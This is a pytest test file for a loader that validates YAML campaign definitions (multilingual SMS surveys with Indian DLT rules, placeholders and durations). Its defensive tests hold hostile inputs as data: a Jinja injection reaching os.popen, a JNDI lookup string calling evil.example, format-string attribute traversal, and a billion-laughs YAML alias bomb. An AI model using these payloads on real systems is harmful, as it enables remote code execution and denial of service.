"""Campaign definitions: the sample loads; each mistake names its file, line and field."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from chalicelib.campaigns.loader import (
    campaign_from_validated,
    definition_of,
    load_campaign_file,
    load_campaigns,
    parse_campaign,
    parse_duration,
    sms_sizes,
)
from chalicelib.errors import DefinitionProblem, InvalidCampaignDefinition
from tests.samples import DEFINITIONS, definition, inline_text, sample_text

WISHLIST = inline_text("wishlist")


def line_of(text: str, fragment: str) -> int:
    """The 1-based line where a fragment starts; the fragment must occur once."""
    assert text.count(fragment) == 1, fragment
    return text[: text.index(fragment)].count("\n") + 1


def edited(old: str, new: str) -> str:
    assert WISHLIST.count(old) == 1, old
    return WISHLIST.replace(old, new)


def problems_of(tmp_path: Path, text: str, name: str = "wishlist.yaml") -> list[DefinitionProblem]:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    if not (tmp_path / "assets").exists():  # a sample's product layers, beside it
        (tmp_path / "assets").symlink_to(DEFINITIONS / "assets")
    with pytest.raises(InvalidCampaignDefinition) as caught:
        load_campaign_file(path)
    return caught.value.problems


@pytest.mark.parametrize("path", sorted(DEFINITIONS.glob("*.yaml")), ids=lambda p: p.stem)
def test_each_sample_campaign_stays_open_for_another_year(path: Path) -> None:
    """Fails a year before a sample closes, not on the day its answers start getting 409."""
    campaign = load_campaign_file(path)
    now = datetime.now(UTC)
    assert campaign.window(now) == "open", f"{path}: not open today, see its starts_at/ends_at"
    assert campaign.window(now + timedelta(days=365)) == "open", (
        f"{path}: the sample closes at {campaign.ends_at}, within a year. Move its ends_at a few "
        "years forward; the tests take the date from the definition (tests/samples.py), only "
        "the Hindi example in README.md repeats it."
    )


def test_the_sample_campaign_loads() -> None:
    campaign = load_campaign_file(DEFINITIONS / "wishlist.yaml")
    assert campaign.slug == "wishlist"
    # Its own texts in English, Hindi and Urdu; India's other languages from its language files.
    assert campaign.locales[:3] == ("en", "hi", "ur")
    assert {"bn", "ta", "sat", "ks", "hi-Latn"} <= set(campaign.locales)
    assert len(campaign.locales) == 24
    every = [step.dlt_template_id for step in campaign.followups if step.channel == "sms"]
    assert all(set(ids) == set(campaign.locales) for ids in every)  # one template per language
    assert campaign.title["bn"]
    assert campaign.title["bn"] != campaign.title["hi"]
    assert campaign.default_locale == "en"
    assert campaign.title["hi"] == "हम आपकी रसोई के लिए आगे क्या बनाएँ?"
    assert campaign.title["ur"] == "ہم آپ کے باورچی خانے کے لیے آگے کیا بنائیں؟"
    assert [q.id for q in campaign.questions] == ["product", "reason"]
    tawa = campaign.questions[0].option("tawa")
    assert tawa is not None
    assert tawa.price == Decimal("899")
    assert campaign.prize == Decimal("1234567.5")
    assert campaign.ends_at == datetime.fromisoformat(definition()["ends_at"])
    assert campaign.ends_at.utcoffset() == timedelta(hours=5, minutes=30)
    assert [s.id for s in campaign.followups] == [
        "thank_you_sms",
        "reminder",
        "offer",
        "offer_event",
    ]
    assert [s.after for s in campaign.followups] == [
        timedelta(0),
        timedelta(days=1),
        timedelta(days=3),
        timedelta(days=3),
    ]
    assert [s.channel for s in campaign.followups] == ["sms", "sms", "sms", "event"]
    thanks, reminder, offer, _ = campaign.followups
    assert thanks.immediate
    assert not thanks.promotional
    assert reminder.promotional
    assert reminder.skip_if_answered == "reason"
    assert offer.plural == "days_left"
    assert campaign.dlt_entity_id == "1101456789012345678"
    assert {k: v for k, v in thanks.dlt_template_id.items() if k in ("en", "hi", "ur")} == {
        "en": "1107161234567890123",
        "hi": "1107161234567890124",
        "ur": "1107161234567890129",
    }
    assert {k: v for k, v in reminder.dlt_template_id.items() if k in ("en", "hi", "ur")} == {
        "en": "1107161234567890125",
        "hi": "1107161234567890126",
        "ur": "1107161234567890130",
    }
    assert {k: v for k, v in offer.dlt_template_id.items() if k in ("en", "hi", "ur")} == {
        "en": "1107161234567890127",
        "hi": "1107161234567890128",
        "ur": "1107161234567890131",
    }


def test_every_definition_in_the_folder_loads() -> None:
    assert "wishlist" in load_campaigns(DEFINITIONS)


def cut(start: str, end: str | None = None) -> str:
    """The sample without what runs from ``start`` to ``end`` (by default, to the line's end)."""
    begin = WISHLIST.index(start)
    stop = WISHLIST.index(end) if end is not None else WISHLIST.index("\n", begin) + 1
    return WISHLIST[:begin] + WISHLIST[stop:]


DLT_IDS = (
    '    dlt_template_id:\n      en: "1107161234567890123"\n      hi: "1107161234567890124"\n'
    '      ur: "1107161234567890129"\n'
)
REMINDER = "  - id: reminder\n    after: P1D\n    channel: sms\n    sms_type: Promotional\n"
NO_UNSUBSCRIBE = edited(
    "why it would suit your kitchen: {link} Stop SMS: {unsubscribe}",
    "why it would suit your kitchen: {link}",
).replace(
    "why it would suit your kitchen: {#url#} Stop SMS: {#url#}",
    "why it would suit your kitchen: {#url#}",
)
LONG_LABEL = "          en: Cast-iron tawa, 30 cm, pre-seasoned\n"

# One mistake in the sample -> exactly this one problem: (text, where: the fragment starting its
# line or the line number, field, message).
MISTAKES = [
    pytest.param(
        edited("  hi: हम आपकी रसोई के लिए आगे क्या बनाएँ?\n", ""),
        "  en: What should we make",
        "title",
        "missing the 'hi' text",
        id="missing-translation",
    ),
    pytest.param(
        edited("      hi: हमें आगे कौन-सा उत्पाद बनाना चाहिए?\n", ""),
        "      en: Which product should",
        "questions[0].label",
        "missing the 'hi' text",
        id="missing-translation-in-a-question",
    ),
    pytest.param(
        edited("  hi: काव्या होम\n", "  hi: काव्या होम\n  ta: காவ்யா ஹோம்\n"),
        "  ta: ",
        "brand.ta",
        "'ta' is not one of the campaign's locales",
        id="locale-not-offered",
    ),
    pytest.param(
        edited("currency: INR\n", "currency: INR\ncurrency: USD\n"),
        "currency: USD",
        "currency",
        "given twice",
        id="duplicate-key",
    ),
    pytest.param(
        edited('hi: "{brand} को', 'hi: "{shop} को'),
        "{shop}",
        "followups[0].text.hi",
        "unknown placeholder {shop}",
        id="unknown-placeholder",
    ),
    pytest.param(
        edited("  en: What should we make", "  en: Before {ends}, what should we make"),
        "{ends}, what",
        "title.en",
        "unknown placeholder {ends}",
        id="placeholder-of-elsewhere-in-a-title",
    ),
    pytest.param(
        cut("      - id: mixer-grinder", "  - id: reason"),
        "      - id: pressure-cooker",
        "questions[0].options",
        "a choice needs at least two options",
        id="choice-with-one-option",
    ),
    pytest.param(
        edited("currency: INR\n", "currency: INR\nextra: " + "9" * 5000 + "\n"),
        "extra: 9",
        "(top)",
        "not valid YAML: a number of more than 30 digits",
        id="number-too-long-for-python",
    ),
    pytest.param(
        edited(DLT_IDS, ""),
        "  - id: thank_you_sms",  # where the step starts
        "followups[0].dlt_template_id",
        "required for SMS to +91 numbers (DLT)",
        id="sms-to-india-needs-dlt-template-ids",
    ),
    pytest.param(
        edited('      hi: "1107161234567890124"\n', ""),
        '      en: "1107161234567890123"',
        "followups[0].dlt_template_id",
        "missing the 'hi' text",
        id="a-dlt-template-id-per-locale",
    ),
    pytest.param(
        cut('    dlt_registered:\n      en: "Thank you', '    text:\n      en: "Thank you'),
        "  - id: thank_you_sms",
        "followups[0].dlt_registered",
        "required for SMS to +91 numbers (DLT)",
        id="sms-to-india-needs-the-registered-body",
    ),
    pytest.param(
        edited('sms:\n  dlt_entity_id: "1101456789012345678"\n', ""),
        "  - id: thank_you_sms",  # the first SMS that needs it, once
        "sms.dlt_entity_id",
        "required for SMS to +91 numbers (DLT)",
        id="sms-to-india-needs-the-dlt-entity-once",
    ),
    pytest.param(
        NO_UNSUBSCRIBE,
        "kitchen: {link}",
        "followups[1].text.en",
        "marketing SMS must carry the {unsubscribe} link",
        id="marketing-sms-without-unsubscribe",
    ),
    pytest.param(
        cut('        one: "{brand}: {product} लॉन्च'),
        '        other: "{brand}: {product} लॉन्च',
        "followups[2].text.hi",
        "plural forms missing: one (CLDR hi)",
        id="plural-text-without-every-cldr-form",
    ),
    pytest.param(
        edited("thanks for choosing {product}!", "thanks for choosing {item}!"),
        "{item}",
        "followups[1].text.en",
        "unknown placeholder {item}",
        id="unknown-placeholder-in-a-followup",
    ),
    pytest.param(
        edited("skip_if_answered: reason", "skip_if_answered: why"),
        "skip_if_answered: why",
        "followups[1].skip_if_answered",
        "there is no question 'why'",
        id="skip-if-answered-no-question",
    ),
    pytest.param(
        edited("  - id: offer_event\n", "  - id: offer\n"),
        line_of(WISHLIST, "  - id: offer_event"),
        "followups[3].id",
        "'offer' is used twice",
        id="step-id-twice",
    ),
    pytest.param(
        edited("          en: Cast-iron tawa\n", LONG_LABEL),
        "Cast-iron tawa, 30 cm",
        "questions[0].options[2].label.en",
        "35 characters: too long for an SMS {product} (a DLT {#var#} holds at most 30)",
        id="option-label-too-long-for-a-dlt-variable",
    ),
    pytest.param(
        edited(REMINDER, REMINDER.replace("Promotional", "Transactional")),
        "    sms_type: Transactional\n    skip_if_answered",
        "followups[1].sms_type",
        "a later SMS is marketing, not a confirmation the customer asked for: use Promotional",
        id="later-sms-pretending-to-be-transactional",
    ),
]

# The same, where the message ends in what a library says: it starts with ``message``.
MISTAKES_IN_LIBRARY_WORDS = [
    pytest.param(
        edited("    max_length: 500\n", "    max_length: many\n"),
        "max_length: many",
        "questions[1].max_length",
        "'many' is not of type 'integer'",
        id="wrong-type",
    ),
    pytest.param(
        edited("currency: INR\n", "currency: INR: 2\n"),
        "currency: INR: 2",
        "(top)",
        "not valid YAML",
        id="yaml-syntax-error",
    ),
    pytest.param(
        "# " + "x" * 400_000 + "\n" + WISHLIST,
        1,
        "(top)",
        "too large",
        id="too-large-to-store-refused-before-it-is-parsed",
    ),
    pytest.param(
        edited("telling {brand} what to make next", "telling {brand} what to cook next"),
        "what to cook next",
        "followups[0].text.en",
        "does not match the DLT-registered body",
        id="sms-text-not-its-dlt-registered-body",
    ),
    pytest.param(
        edited("after: P1D", "after: 1 day"),
        "after: 1 day",
        "followups[1].after",
        "'1 day' does not match",
        id="after-not-an-iso-duration",
    ),
]


def line_at(text: str, where: str | int) -> int:
    return where if isinstance(where, int) else line_of(text, where)


@pytest.mark.parametrize(("text", "where", "field", "message"), MISTAKES)
def test_a_mistake_is_one_problem_at_its_line_and_field(
    tmp_path: Path, text: str, where: str | int, field: str, message: str
) -> None:
    assert problems_of(tmp_path, text) == [
        DefinitionProblem("wishlist.yaml", line_at(text, where), field, message)
    ]


@pytest.mark.parametrize(("text", "where", "field", "message"), MISTAKES_IN_LIBRARY_WORDS)
def test_a_mistake_a_library_finds_is_one_problem_at_its_line_and_field(
    tmp_path: Path, text: str, where: str | int, field: str, message: str
) -> None:
    [problem] = problems_of(tmp_path, text)

    assert (problem.file, problem.line, problem.field) == (
        "wishlist.yaml",
        line_at(text, where),
        field,
    )
    assert problem.message.startswith(message), problem.message


def test_unknown_locale_code(tmp_path: Path) -> None:
    text = edited("locales: [en, hi, ur]", "locales: [en, hi, ur, xx]")
    problems = problems_of(tmp_path, text)
    assert problems[0] == DefinitionProblem(
        "wishlist.yaml", line_of(text, "locales:"), "locales", "'xx' is not a CLDR locale"
    )
    # Every text then lacks its 'xx' version, each reported where it is.
    assert (
        DefinitionProblem(
            "wishlist.yaml", line_of(text, "  en: Kavya Home"), "brand", "missing the 'xx' text"
        )
        in problems
    )


DRESS = inline_text("design-your-dress")


@pytest.mark.parametrize(
    ("old", "new", "field", "message"),
    [
        (
            "Design yours here: {link}",
            "Design yours: {unknown}",
            "sharing.share_text.en",
            "{unknown}",
        ),
        ("Design yours here: {link}", "{link.__class__.__mro__}", "sharing.share_text.en", "plain"),
        ("Design yours here: {link}", "{name:>3000000} {link}", "sharing.share_text.en", "plain"),
        (
            'en: "{brand}: {text} Reply',
            'en: "{brand}: {text[0]} Reply',
            "replies.template.en",
            "plain",
        ),
        (
            'en: "{brand}: {text} Reply',
            'en: "{link}: {text} Reply',
            "replies.template.en",
            "{link}",
        ),
    ],
    ids=["unknown", "attribute", "format-spec", "index", "not-here"],
)
def test_share_texts_and_replies_allow_only_their_plain_placeholders(
    tmp_path: Path, old: str, new: str, field: str, message: str
) -> None:
    assert DRESS.count(old) == 1
    text = DRESS.replace(old, new)

    problems = problems_of(tmp_path, text, "design-your-dress.yaml")

    [problem] = [p for p in problems if p.field == field]
    assert problem.file == "design-your-dress.yaml"
    assert problem.line == line_of(text, new)
    assert message in problem.message


def test_file_name_must_match_the_slug(tmp_path: Path) -> None:
    assert problems_of(tmp_path, WISHLIST, name="wish-list.yaml") == [
        DefinitionProblem(
            "wish-list.yaml",
            line_of(WISHLIST, "slug: wishlist"),
            "slug",
            "the file must be named wishlist.yaml",
        )
    ]


BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
)


@pytest.mark.parametrize(
    ("text", "alias"),
    [
        (BILLION_LAUGHS, "*a"),  # 9^10 values from 1 KB: it took 29 s and 330 MB
        ("slug: &s [1, *s]\n", "*s"),  # an alias inside its own anchor: RecursionError
        (edited("currency: INR\n", "currency: &c INR\nextra: *c\n"), "*c"),
    ],
    ids=["billion-laughs", "recursive", "simple"],
)
def test_a_yaml_alias_is_refused_at_its_line(tmp_path: Path, text: str, alias: str) -> None:
    [problem] = problems_of(tmp_path, text)

    assert problem.field == "(top)"
    assert problem.line == text[: text.index(alias)].count("\n") + 1  # the first alias
    assert f"an alias ({alias}) is not allowed" in problem.message


@pytest.mark.parametrize("nested", ["[" * 2000 + "]" * 2000, "{a: " * 2000 + "1" + "}" * 2000])
def test_yaml_nested_too_deeply_is_a_problem_not_a_crash(tmp_path: Path, nested: str) -> None:
    [problem] = problems_of(tmp_path, nested)

    assert (problem.line, problem.field) == (1, "(top)")
    assert problem.message == "not valid YAML: nested too deeply for a campaign"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("PT0S", timedelta(0)),
        ("P1D", timedelta(days=1)),
        ("P3D", timedelta(days=3)),
        ("PT2H", timedelta(hours=2)),
        ("P1DT2H30M", timedelta(days=1, hours=2, minutes=30)),
        ("PT90S", timedelta(seconds=90)),
    ],
)
def test_parse_duration(value: str, expected: timedelta) -> None:
    assert parse_duration(value) == expected


@pytest.mark.parametrize("value", ["", "P", "PT", "P1DT", "1D", "P1W", "PT1H2D", "p1d", " P1D"])
def test_parse_duration_refuses_what_is_not_an_iso_duration(value: str) -> None:
    with pytest.raises(ValueError, match="not an ISO 8601 duration"):
        parse_duration(value)


SAMPLES = {path.name: sample_text(path.stem) for path in DEFINITIONS.glob("*.yaml")}
# YAML types a sample does not show: an unquoted date-time, fractional and x.0 prices.
SAMPLES["wishlist.yaml (YAML types)"] = (
    WISHLIST.replace('ends_at: "2029-12-31T23:59:00+05:30"', "ends_at: 2029-12-31T23:59:00+05:30")
    .replace("price: 1899\n", "price: 1899.50\n")
    .replace("price: 3499\n", "price: 3499.0\n")
)


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_the_validated_form_builds_the_very_campaign_the_yaml_does(name: str) -> None:
    """What deploy stores beside the YAML (JSON) gives back the same campaign, down to the
    Decimal's digits and the tuples, without parsing YAML again."""
    text = SAMPLES[name]
    definition = definition_of(text, name)

    built = campaign_from_validated(definition.validated, 7)

    parsed = parse_campaign(text, name, version=7)
    assert built == parsed
    assert repr(built) == repr(parsed)  # Decimal("3499.0") is == Decimal("3499"), not its repr
    assert (definition.slug, definition.source) == (parsed.slug, text)


def test_the_yaml_types_survive_the_validated_form() -> None:
    name = "wishlist.yaml (YAML types)"
    campaign = campaign_from_validated(definition_of(SAMPLES[name], name).validated, 1)

    prices = [option.price for option in campaign.questions[0].options]
    assert [str(price) for price in prices[:2]] == ["1899.5", "3499.0"]
    assert campaign.ends_at == datetime(2029, 12, 31, 18, 29, tzinfo=UTC)
    assert campaign.prize == Decimal("1234567.5")


def test_a_definition_refused_by_parse_campaign_is_refused_by_definition_of() -> None:
    broken = edited("  max_length: 500\n", "  max_length: many\n")

    with pytest.raises(InvalidCampaignDefinition) as parsed:
        parse_campaign(broken, "wishlist.yaml")
    with pytest.raises(InvalidCampaignDefinition) as defined:
        definition_of(broken, "wishlist.yaml")

    assert defined.value.problems == parsed.value.problems
    assert defined.value.problems[0].line == line_of(broken, "max_length: many")


def test_sms_sizes_by_script() -> None:
    campaign = parse_campaign(WISHLIST, "wishlist.yaml")
    sizes = {(step, locale, variant): size for step, locale, variant, size in sms_sizes(campaign)}
    assert {key[0] for key in sizes} == {"thank_you_sms", "reminder", "offer"}  # SMS only
    assert {(key[1], key[2]) for key in sizes if key[0] == "offer"} == {
        ("en", "one"),
        ("en", "other"),
        ("hi", "one"),
        ("hi", "other"),
        ("ur", "one"),
        ("ur", "other"),
    }
    for (step, locale, _), size in sizes.items():
        if locale in ("hi", "ur"):  # Devanagari and Nastaliq are outside GSM 03.38
            assert size.encoding == "UCS-2", step
    assert sizes[("thank_you_sms", "en", None)].encoding == "GSM-7"
    assert sizes[("reminder", "en", None)].encoding == "GSM-7"
    assert sizes[("thank_you_sms", "en", None)].segments == 1
    assert sizes[("thank_you_sms", "hi", None)].segments == 2  # over 70 UCS-2 units
    assert sizes[("thank_you_sms", "ur", None)].segments == 2
    # The ₹ of a formatted price is outside GSM 03.38: the English offer goes out as UCS-2.
    assert sizes[("offer", "en", "other")].encoding == "UCS-2"


def test_all_problems_are_reported_in_line_order(tmp_path: Path) -> None:
    text = edited("max_length: 500", "max_length: 0").replace("currency: INR\n", "currency: 5\n")
    problems = problems_of(tmp_path, text)
    assert [(p.line, p.field) for p in problems] == [
        (line_of(text, "currency: 5"), "currency"),
        (line_of(text, "max_length: 0"), "questions[1].max_length"),
    ]


def test_folder_reports_problems_of_every_file(tmp_path: Path) -> None:
    (tmp_path / "wishlist.yaml").write_text(
        WISHLIST.replace("currency: INR\n", "currency: rupees\n"), encoding="utf-8"
    )
    (tmp_path / "other.yaml").write_text(WISHLIST, encoding="utf-8")
    with pytest.raises(InvalidCampaignDefinition) as caught:
        load_campaigns(tmp_path)
    assert {(p.file, p.field) for p in caught.value.problems} == {
        ("other.yaml", "slug"),
        ("wishlist.yaml", "currency"),
    }


@pytest.mark.parametrize(
    "attack",
    [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% for x in range(9999999) %}x{% endfor %}",
        "{brand.__class__.__mro__}",
        "${jndi:ldap://evil.example/a}",
    ],
)
def test_template_injection_in_a_text_is_refused(tmp_path: Path, attack: str) -> None:
    text = edited("  en: What should we make for your kitchen next?\n", f'  en: "{attack}"\n')

    [problem] = problems_of(tmp_path, text)

    assert (problem.line, problem.field) == (line_of(text, attack), "title.en")
    assert problem.message in {
        "template syntax is not allowed: texts are plain text",
        "only plain {name} placeholders are allowed",
    }


@pytest.mark.parametrize("checked", [True, False], ids=["with", "without format checker"])
def test_an_impossible_date_is_a_problem_on_its_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, checked: bool
) -> None:
    """Also where jsonschema's date-time check is missing (it needs rfc3339-validator)."""
    from jsonschema import FormatChecker

    from chalicelib.campaigns import loader

    if not checked:
        monkeypatch.setattr("jsonschema.FormatChecker", lambda: FormatChecker(formats=()))
    loader.schema_validator.cache_clear()
    try:
        text = edited(
            'ends_at: "2029-12-31T23:59:00+05:30"', 'ends_at: "2029-02-30T23:59:00+05:30"'
        )
        problems = problems_of(tmp_path, text)
    finally:
        loader.schema_validator.cache_clear()
    assert [(p.field, p.line) for p in problems] == [("ends_at", line_of(text, "ends_at:"))]


def test_a_definition_too_large_to_store_is_refused_before_it_is_deployed(
    tmp_path: Path,
) -> None:
    """A version is one DynamoDB item (400 KB): the YAML and its checked form must fit."""
    hint = "Tell us what you would change, and why; every answer is read. " * 25  # 1.6 KB
    extra = "".join(
        f"  - id: wish_{n:03d}\n    type: text\n    required: false\n    label:\n"
        f"      en: Wish {n}\n      hi: इच्छा {n}\n      ur: خواہش {n}\n"
        f"    hint:\n      en: {hint}\n      hi: {hint}\n      ur: {hint}\n"
        for n in range(45)
    )
    text = edited("\nphone: optional", f"{extra}\nphone: optional")
    [problem] = problems_of(tmp_path, text)
    assert problem.field == "(the whole definition)"
    assert "too large to store" in problem.message
    assert problem.file == "wishlist.yaml"


def test_a_reward_needs_a_way_for_friends_to_prove_their_number(tmp_path: Path) -> None:
    start = DRESS.index("  - id: friend_confirm_sms")
    end = DRESS.index("  - id: share_approved_sms")
    text = DRESS[:start] + DRESS[end:]

    problems = problems_of(tmp_path, text, "design-your-dress.yaml")

    assert [(p.field, p.message) for p in problems] == [
        (
            "sharing.reward_threshold",
            "only friends who prove their number count: add a follow-up SMS with"
            " trigger: referred carrying {confirm}",
        )
    ]


def test_the_confirm_link_is_only_known_to_the_referred_friends_step(tmp_path: Path) -> None:
    text = DRESS.replace("Share it with your friends: {share_link}", "Share it: {confirm}", 1)

    problems = problems_of(tmp_path, text, "design-your-dress.yaml")

    assert ("followups[3].text", "{confirm} is only known with trigger: referred") in [
        (p.field, p.message) for p in problems
    ]
